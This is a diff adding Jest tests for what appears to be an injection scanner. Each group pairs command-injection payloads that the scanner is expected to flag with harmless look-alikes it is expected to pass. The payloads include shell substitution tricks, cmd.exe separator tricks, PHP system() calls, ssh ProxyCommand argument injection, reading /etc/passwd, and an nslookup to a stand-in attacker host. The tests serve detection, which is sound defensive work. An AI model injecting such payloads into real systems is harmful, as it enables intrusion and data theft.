@@ -1109,3 +1109,99 @@ describe('cmdi round 9: IF x == y waits for the command cmd.exe would run; "or"/
     expectSameWhenSplit(d, [input], 'query');
   });
 });
+
+describe('cmdi round 10: a quote opening the value, then a backtick substitution, runs it inside "…"', () => {
+  it.each(["'`sleep 5`", '"`pwd`', "'`pwd`&", "\"`nslookup x.attacker.test`'", "'`s'l'eep 5`", "x'`ps aux`#", "'`echo vulnerable` #",
+    "'`sleep 5`'", '"`ls -la`"', "'`true`'"])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-substitution');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // (a weak word alone in a quoted span is a code span quoted in prose, as it is unquoted: `date`)
+  it.each(["'`date`'", '"`sleep`"', "x '`date`'", "'`type`' is required", '"`date` is the field"', '"`npm install`" first', '"`npm`"', "'`date`",
+    "'`cat file.txt`' prints it", "He said '`ls -la`' shows hidden files", "'`date`' and more"])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 10: cmd.exe reads a comma between a command and its arguments as a space', () => {
+  it.each(['&dir,c:\\', '|type,C:\\Windows\\win.ini', '&ipconfig,/all', '&ping,-n,5,127.0.0.1', '&&cmd,/c,whoami', '1||timeout,/t,5',
+    '"&powershell,-c,Get-Process', '\r\ndir,c:\\', '&type,\\x\\y'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['x|sort,uniq', 'A|Echo,B', 'x&type,y', 'x|sort,', 'Size|Sort,/asc', 'Rating|Sort,-price', 'Gross|Net,Tax', 'id,name|time,date',
+    'S&P 500|Dir,Notes', 'Copy&copy,2024', 'a|dir,d', 'Name | Date, Time'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 10: a positional parameter is one digit; a quote or $ after a backtick glued to a word starts the substitution', () => {
+  it.each([[';i$9d', 'cmdi.chained-command'], ['x;c$1at /etc/passwd', 'cmdi.chained-command'], ['|wh$5oami', 'cmdi.chained-command'],
+    ['x`$0 -c id`', 'cmdi.command-substitution'], ["x`$'\\x69\\x64'`", 'cmdi.command-substitution'], ['x`"w"h"o"a"m"i`', 'cmdi.command-substitution'],
+    ["q`'i'd`", 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Price $9d', 'a$1b', 'cost $5 ls', 'US$5bn deal', 'hello`"world"`', 'word`"quoted"`', 'x`y`z'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 10: ${@} ${*} inside a word are empty, like $@ $*', () => {
+  it.each([[';${@}id', 'cmdi.chained-command'], [';i${@}d', 'cmdi.chained-command'], ['x;wh${*}oami', 'cmdi.chained-command'],
+    ['${@}id -a', 'cmdi.command-with-args'], ['`un${*}ame -a`', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['${@}', 'use ${*} and ${@}', 'the ${?} code', 'a${-}b', '$@id'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 10: cmd.exe skips , and ; before a command name after its separators', () => {
+  it.each(['&,whoami', '|,net user', '&,;,whoami', '&&,,dir c:\\', '\n,ver', '1&, ipconfig /all', 'a;,id'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['q&,x', 'Q&,A', 'a&b,id', 'a,,id', '1,2;,3', 'x|a,,id', 'Name,,Email', 'flags|=id', 'mask&=id', 'x|=date', '&=whoami'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 10: a command word given unquoted to system( passthru( popen( (PHP before 8 reads a bare name as its string)', () => {
+  it.each(['{${system(id)}}', '${@system(id)}', 'passthru(whoami)', 'popen(ls)', "';system(uname);#"])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['exec(id)', 'the system(s) in use', 'system(date)', 'operating system(linux)', 'file system(ext4)'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 10: file tools that only print their usage without an operand, alone, run nothing', () => {
+  it.each([';touch /tmp/x', ';rm -rf /tmp/x', '|cp /etc/passwd /tmp/p', ';mkdir x', ';copy c:\\x d:\\y', '`rm`', '|chmod +x s'])('%s is flagged', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.some((t) => t.category === 'cmdi')).toBe(true);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Touch; price; coffee', 'Copy; Paste', 'Cut; Copy; Paste', 'Move; Copy', 'cp; mv; rm', 'Malé | MV', '&& rm'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe("cmdi round 10: ssh's ProxyCommand= given a command (argument injection) is judged like system(", () => {
+  it.each(['-oProxyCommand=id', 'x -oProxyCommand=whoami', "-oProxyCommand='id'", "-o ProxyCommand='sh -c id'"])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['ProxyCommand=date', 'set ProxyCommand=none', 'oproxycommand=foo', 'ProxyCommand ssh -W %h:%p bastion is in the docs'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
